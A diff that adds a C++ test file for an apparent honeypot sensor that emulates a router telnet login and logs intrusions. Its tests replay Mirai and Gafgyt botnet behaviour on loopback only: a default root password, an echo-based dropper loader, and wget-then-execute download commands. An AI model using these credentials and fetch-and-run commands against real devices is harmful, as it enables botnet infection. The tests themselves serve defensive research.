@@ -1,0 +1,279 @@
+#include "sensor/runtime/sensor_server.h"
+
+#include <arpa/inet.h>
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <openssl/evp.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <mutex>
+#include <thread>
+
+#include "core/hex.h"
+#include "testing/local_http_server.h"
+#include "testing/temp_dir.h"
+
+namespace mitsu::sensor {
+namespace {
+
+using namespace std::chrono_literals;
+
+class MemorySink : public EventSink {
+ public:
+  void emit(const nlohmann::json& event) override {
+    std::lock_guard lock(mutex_);
+    events_.push_back(event);
+  }
+  std::vector<nlohmann::json> events() const {
+    std::lock_guard lock(mutex_);
+    return events_;
+  }
+  std::vector<nlohmann::json> of(std::string_view action) const {
+    std::vector<nlohmann::json> out;
+    for (const auto& e : events()) {
+      if (e["event"]["action"] == action) {
+        out.push_back(e);
+      }
+    }
+    return out;
+  }
+  // Waits until `n` events of a kind arrived (sessions end on the server's threads).
+  bool wait_for(std::string_view action, std::size_t n,
+                std::chrono::milliseconds limit = 5s) const {
+    auto until = std::chrono::steady_clock::now() + limit;
+    while (std::chrono::steady_clock::now() < until) {
+      if (of(action).size() >= n) {
+        return true;
+      }
+      std::this_thread::sleep_for(10ms);
+    }
+    return false;
+  }
+
+ private:
+  mutable std::mutex mutex_;
+  std::vector<nlohmann::json> events_;
+};
+
+std::string sha256_of(std::string_view data) {
+  unsigned char out[32];
+  unsigned size = 0;
+  EVP_Digest(data.data(), data.size(), out, &size, EVP_sha256(), nullptr);
+  return to_hex(out, size);
+}
+
+// A plain TCP client: sends a script, reads until the server closes or goes quiet.
+class Client {
+ public:
+  explicit Client(int port) {
+    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_port = htons(static_cast<std::uint16_t>(port));
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    connected_ = ::connect(fd_, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0;
+  }
+  ~Client() { ::close(fd_); }
+  bool connected() const { return connected_; }
+  void send(std::string_view data) { (void)::send(fd_, data.data(), data.size(), MSG_NOSIGNAL); }
+  // Reads until `marker` shows up (or the peer closes / the time runs out).
+  std::string read_until(std::string_view marker, std::chrono::milliseconds limit = 3s) {
+    auto until = std::chrono::steady_clock::now() + limit;
+    while (received_.find(marker) == std::string::npos &&
+           std::chrono::steady_clock::now() < until) {
+      pollfd p{fd_, POLLIN, 0};
+      if (::poll(&p, 1, 20) <= 0) {
+        continue;
+      }
+      char buffer[4096];
+      ssize_t n = ::read(fd_, buffer, sizeof(buffer));
+      if (n <= 0) {
+        closed_ = true;
+        break;
+      }
+      received_.append(buffer, static_cast<std::size_t>(n));
+    }
+    return received_;
+  }
+  bool closed_by_peer(std::chrono::milliseconds limit = 3s) {
+    read_until(std::string(1, '\x01') + "never", limit);
+    return closed_;
+  }
+
+ private:
+  int fd_ = -1;
+  bool connected_ = false;
+  bool closed_ = false;
+  std::string received_;
+};
+
+DevicePersona router() {
+  DevicePersona p;
+  p.name = "router";
+  p.device_type = "router";
+  p.vendor = "V";
+  p.model = "R1";
+  p.arch = "mips";
+  p.hostname = "R1";
+  p.login_prompt = "R1 login: ";
+  p.credentials.accept = {{"root", "xc3511"}};
+  return p;
+}
+
+class SensorServerTest : public ::testing::Test {
+ protected:
+  mitsu::testing::TempDir dir{"sensor-server"};
+  std::unique_ptr<artifacts::ArtifactStore> store =
+      std::move(*artifacts::ArtifactStore::open({dir.path() / "artifacts"}));
+  MemorySink sink;
+  std::unique_ptr<Downloader> downloader;
+  std::unique_ptr<SensorServer> server;
+
+  int start(SensorLimits limits = {}) {
+    DownloadOptions d;
+    d.allow = {"127.0.0.1/32"};
+    downloader = std::move(*Downloader::start(d, *store));
+    SensorOptions options;
+    options.personas = {router()};
+    options.listeners = {{"telnet", "127.0.0.1", 0, 0}};
+    options.limits = limits;
+    options.threads = 2;
+    server = std::make_unique<SensorServer>(options, sink, *store, downloader.get());
+    Status started = server->start();
+    EXPECT_TRUE(started) << started.error();
+    return server->bound().at(0).port;
+  }
+
+  void TearDown() override {
+    if (server) {
+      server->stop();
+    }
+    if (downloader) {
+      downloader->stop();
+    }
+  }
+};
+
+TEST_F(SensorServerTest, MiraiEchoLoaderOverTcpLeavesTheDropperInTheArtifactStore) {
+  int port = start();
+  std::string dropper = std::string(
+                            "\x7f"
+                            "ELF\x01\x02\x01",
+                            7) +
+                        std::string(200, '\x55') + std::string("\xff\xff\x00\x0d\x0a", 5);
+  Client c(port);
+  ASSERT_TRUE(c.connected());
+  c.read_until("login: ");
+  c.send("root\r\n");
+  c.read_until("Password: ");
+  c.send("xc3511\r\n");
+  c.read_until("# ");
+  c.send("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n");
+  EXPECT_NE(c.read_until("ECCHI: applet not found").find("ECCHI: applet not found"),
+            std::string::npos);
+  c.send("cat /bin/echo\r\ncd /tmp\r\n");
+  for (std::size_t at = 0; at < dropper.size(); at += 32) {
+    std::string chunk;
+    for (std::size_t i = at; i < std::min(dropper.size(), at + 32); ++i) {
+      chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(dropper[i]));
+    }
+    c.send(fmt::format("echo -ne '{}' {} .d\r\n", chunk, at == 0 ? ">" : ">>"));
+  }
+  c.send("chmod 777 .d\r\n./.d\r\nexit\r\n");
+  EXPECT_TRUE(c.closed_by_peer());
+  ASSERT_TRUE(sink.wait_for("session.close", 1));
+  auto uploads = sink.of("file.upload");
+  ASSERT_EQ(uploads.size(), 1u);
+  EXPECT_EQ(uploads[0]["file"]["hash"]["sha256"], sha256_of(dropper));
+  EXPECT_EQ(uploads[0]["file"]["name"], "/tmp/.d");
+  auto stored = store->read(sha256_of(dropper));
+  ASSERT_TRUE(stored);
+  EXPECT_EQ(stored->size(), dropper.size());
+  auto logins = sink.of("login.attempt");
+  ASSERT_EQ(logins.size(), 1u);
+  EXPECT_EQ(logins[0]["event"]["outcome"], "success");
+  EXPECT_EQ(logins[0]["source"]["ip"], "127.0.0.1");
+  EXPECT_EQ(logins[0]["mitsu"]["persona"]["device_type"], "router");
+  EXPECT_GE(sink.of("command").size(), 10u);
+  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "logout");
+}
+
+TEST_F(SensorServerTest, GafgytWgetFetchesFromTheLocalServer) {
+  std::string script = "#!/bin/sh\ncd /tmp; wget http://127.0.0.1:1/mips; chmod +x mips; ./mips\n";
+  mitsu::testing::LocalHttpServer http({{"/bins.sh", {200, script, ""}}});
+  int port = start();
+  Client c(port);
+  c.read_until("login: ");
+  c.send("root\r\nxc3511\r\n");
+  c.read_until("# ");
+  c.send(fmt::format(
+      "cd /tmp || cd /var/run; wget http://127.0.0.1:{}/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n",
+      http.port()));
+  ASSERT_TRUE(sink.wait_for("file.download", 1));
+  auto downloads = sink.of("file.download");
+  EXPECT_EQ(downloads[0]["event"]["outcome"], "success") << downloads[0].dump();
+  EXPECT_EQ(downloads[0]["file"]["hash"]["sha256"], sha256_of(script));
+  EXPECT_TRUE(store->read(sha256_of(script)));
+  // The fetched script arrives in the session: running it again asks for its second stage,
+  // which the guard refuses (port 1 on loopback is allowed, but nothing listens).
+  c.send("sh /tmp/bins.sh\r\nexit\r\n");
+  ASSERT_TRUE(sink.wait_for("file.download", 2));
+  EXPECT_EQ(sink.of("file.download")[1]["url"]["full"], "http://127.0.0.1:1/mips");
+}
+
+TEST_F(SensorServerTest, PerSourceCapClosesExtraConnections) {
+  SensorLimits limits;
+  limits.max_sessions_per_source = 2;
+  int port = start(limits);
+  Client a(port), b(port);
+  a.read_until("login: ");
+  b.read_until("login: ");
+  Client extra(port);
+  EXPECT_TRUE(extra.closed_by_peer());
+  EXPECT_EQ(server->stats().refused_over_limit, 1u);
+  EXPECT_FALSE(a.closed_by_peer(100ms));
+}
+
+TEST_F(SensorServerTest, IdleSessionsTimeOut) {
+  SensorLimits limits;
+  limits.idle_timeout = 300ms;
+  int port = start(limits);
+  Client c(port);
+  c.read_until("login: ");
+  EXPECT_TRUE(c.closed_by_peer(3s));
+  ASSERT_TRUE(sink.wait_for("session.close", 1));
+  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "idle_timeout");
+}
+
+TEST_F(SensorServerTest, StopEndsSessionsAndKeepsTheirFiles) {
+  int port = start();
+  Client c(port);
+  c.read_until("login: ");
+  c.send("root\r\nxc3511\r\n");
+  c.read_until("# ");
+  c.send("echo -ne 'left behind' > /tmp/x\r\n");
+  c.read_until("/tmp/x\r\n# ");
+  server->stop();
+  ASSERT_TRUE(sink.wait_for("session.close", 1, 1s));
+  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "shutdown");
+  ASSERT_EQ(sink.of("file.upload").size(), 1u);
+  EXPECT_EQ(sink.of("file.upload")[0]["file"]["hash"]["sha256"], sha256_of("left behind"));
+}
+
+TEST_F(SensorServerTest, BadBindIsAClearError) {
+  SensorOptions options;
+  options.personas = {router()};
+  options.listeners = {{"telnet", "203.0.113.1", 0, 0}};
+  SensorServer s(options, sink, *store, nullptr);
+  Status started = s.start();
+  ASSERT_FALSE(started);
+  EXPECT_NE(started.error().find("cannot listen on 203.0.113.1:0 (telnet for router)"),
+            std::string::npos)
+      << started.error();
+}
+
+}  // namespace
+}  // namespace mitsu::sensor
